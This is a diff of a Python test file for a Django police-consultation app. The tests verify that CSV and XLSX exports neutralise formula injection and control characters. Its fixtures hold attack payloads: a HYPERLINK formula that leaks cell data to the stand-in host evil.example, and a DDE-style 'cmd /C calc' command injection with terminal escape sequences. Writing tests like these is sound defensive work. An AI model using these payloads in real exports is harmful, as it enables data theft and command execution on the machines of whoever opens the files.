@@ -1,16 +1,20 @@
 """Every CSV and XLSX the system writes neutralises text a spreadsheet would run as a formula,
 in its header and in its cells, through one function (`policeplan.safecells.safe_cell`);
-numbers typed as numbers stay numbers."""
+numbers typed as numbers stay numbers. The same function replaces control characters (a
+public respondent's vertical tab broke the Excel export with a 500, and the CSV passed an ESC
+sequence through to whoever opened it in a terminal)."""
 
 from __future__ import annotations
 
 import csv
 import io
+import re
 import uuid
 
 import pytest
 from django.core.management import call_command
 from openpyxl import load_workbook
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 
 from policeplan.consultations import selectors, services
 from policeplan.consultations.models import Question
@@ -21,11 +25,18 @@ from policeplan.safecells import TRIGGERS, safe_cell
 pytestmark = pytest.mark.django_db
 
 HEADER_ATTACK = '=HYPERLINK("http://evil.example/?q="&A2,"Click")'
-CELL_ATTACK = "@SUM(1+1)*cmd|' /C calc'!A0"
+CONTROLS = "\x0b\x01\x1b[31m"
+CELL_ATTACK = "@SUM(1+1)*cmd|' /C calc'!A0" + CONTROLS
+SAFE_ATTACK = "'@SUM(1+1)*cmd|' /C calc'!A0\ufffd\ufffd\ufffd[31m"
+CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
 
 
 def _is_live_formula(text: str) -> bool:
     return text.startswith(TRIGGERS)
+
+
+def _is_harmful(text: str) -> bool:
+    return _is_live_formula(text) or bool(CONTROL.search(text))
 
 
 def test_the_one_function_neutralises_each_prefix_and_leaves_numbers_alone():
@@ -33,6 +44,16 @@ def test_the_one_function_neutralises_each_prefix_and_leaves_numbers_alone():
         assert safe_cell(prefix + "1+1") == "'" + prefix + "1+1"
     assert safe_cell(-12.5) == -12.5 and safe_cell(-3) == -3
     assert safe_cell("Barnet") == "Barnet" and safe_cell(None) is None
+
+
+def test_the_one_function_replaces_every_character_a_spreadsheet_or_terminal_would_act_on():
+    every = "".join(chr(i) for i in range(0x20)) + "\x7f\x9b\ud800\ufffe"
+    cleaned = safe_cell("a" + every)
+    assert not ILLEGAL_CHARACTERS_RE.search(cleaned) and not CONTROL.search(cleaned)
+    assert cleaned == "a" + "".join(c if c in "\t\n\r" else "\ufffd" for c in every)
+    # Replaced, not removed: a control character in front of "=" cannot leave a live formula.
+    assert safe_cell("\x01=1+1") == "\ufffd=1+1" and safe_cell("\x1b") == "\ufffd"
+    assert safe_cell("Line one\nline two") == "Line one\nline two"
 
 
 @pytest.fixture
@@ -73,8 +94,9 @@ def test_the_responses_csv_neutralises_a_question_in_the_header_and_an_answer(
     page = client.get(f"/staff/consultations/{hostile_consultation.pk}/responses/export.csv")
     rows = list(csv.reader(io.StringIO(page.content.decode())))
     assert "'" + HEADER_ATTACK in rows[0]
-    assert "'" + CELL_ATTACK in rows[1] and "'-2+3" in rows[1]
-    assert not any(_is_live_formula(cell) for row in rows for cell in row)
+    assert SAFE_ATTACK in rows[1] and "'-2+3" in rows[1]
+    assert not any(_is_harmful(cell) for row in rows for cell in row)
+    assert "\x1b" not in page.content.decode()
 
 
 def test_the_responses_xlsx_neutralises_a_question_in_the_header_and_an_answer(
@@ -82,13 +104,30 @@ def test_the_responses_xlsx_neutralises_a_question_in_the_header_and_an_answer(
 ):
     client.force_login(users["analyst"])
     page = client.get(f"/staff/consultations/{hostile_consultation.pk}/responses/export.xlsx")
+    assert page.status_code == 200
     sheet = load_workbook(io.BytesIO(page.content)).active
     rows = list(sheet.iter_rows(values_only=True))
     assert "'" + HEADER_ATTACK in rows[0]
-    assert "'" + CELL_ATTACK in rows[1]
+    assert SAFE_ATTACK in rows[1]
     cells = [c for row in sheet.iter_rows() for c in row]
     assert not any(c.data_type == "f" for c in cells)
-    assert not any(isinstance(c.value, str) and _is_live_formula(c.value) for c in cells)
+    assert not any(isinstance(c.value, str) and _is_harmful(c.value) for c in cells)
+
+
+def test_pages_show_the_control_characters_harmlessly(client, users, hostile_consultation):
+    """HTML is not a spreadsheet: the pages are served, the text is escaped as any other,
+    and the control characters stay inside a text node, where a browser acts on none."""
+    from policeplan.consultations.models import Response
+
+    response = Response.objects.get(consultation=hostile_consultation)
+    client.force_login(users["policy_officer"])
+    for url in (
+        f"/staff/consultations/{hostile_consultation.pk}/responses/",
+        f"/staff/consultations/{hostile_consultation.pk}/responses/{response.pk}/",
+    ):
+        page = client.get(url)
+        assert page.status_code == 200, url
+    assert "@SUM(1+1)*cmd|&#39; /C calc&#39;!A0\x0b\x01\x1b[31m\n    </dd>" in page.content.decode()
 
 
 @pytest.mark.usefixtures("warehouse_root")
@@ -111,9 +150,9 @@ def test_the_measure_download_neutralises_text_and_keeps_negative_figures_as_num
         {"table": "trend", "area": "E09000003"},
     )
     rows = list(csv.reader(io.StringIO(page.content.decode())))
-    assert rows[1][0] == "'" + CELL_ATTACK
+    assert rows[1][0] == SAFE_ATTACK
     assert rows[1][rows[0].index("value")] == "-0.25"
-    assert not any(_is_live_formula(cell) for row in rows for cell in row if cell != "-0.25")
+    assert not any(_is_harmful(cell) for row in rows for cell in row if cell != "-0.25")
 
 
 @pytest.mark.usefixtures("warehouse_root")
@@ -131,8 +170,8 @@ def test_data_counts_neutralises_a_category_from_the_file(shared_data, tmp_path,
     capsys.readouterr()
     call_command("data", "counts", "--dataset", "street", "--level", "force", "--format", "csv")
     lines = list(csv.reader(io.StringIO(capsys.readouterr().out)))
-    assert lines[1][3] == "'" + CELL_ATTACK and int(lines[1][4]) == len(rows) - 1
-    assert not any(_is_live_formula(cell) for row in lines for cell in row)
+    assert lines[1][3] == SAFE_ATTACK and int(lines[1][4]) == len(rows) - 1
+    assert not any(_is_harmful(cell) for row in lines for cell in row)
 
 
 def test_analyse_outputs_neutralise_ids_and_themes_from_the_files(db, tmp_path):
@@ -164,8 +203,8 @@ def test_analyse_outputs_neutralise_ids_and_themes_from_the_files(db, tmp_path):
         str(out),
     )
     rows = list(csv.reader(out.open(encoding="utf-8")))
-    assert rows[1][:2] == ["'-0+cmd", "'" + CELL_ATTACK]
-    assert not any(_is_live_formula(cell) for row in rows for cell in row)
+    assert rows[1][:2] == ["'-0+cmd", SAFE_ATTACK]
+    assert not any(_is_harmful(cell) for row in rows for cell in row)
     themes = tmp_path / "themes.csv"
     call_command(
         "analyse",
@@ -182,7 +221,7 @@ def test_analyse_outputs_neutralise_ids_and_themes_from_the_files(db, tmp_path):
     )
     suggested = list(csv.reader(themes.open(encoding="utf-8")))
     assert any("'-0+cmd" in row[2] or row[2].startswith("R") for row in suggested[1:])
-    assert not any(_is_live_formula(cell) for row in suggested for cell in row)
+    assert not any(_is_harmful(cell) for row in suggested for cell in row)
 
 
 def test_no_output_writes_csv_or_xlsx_around_the_one_function():
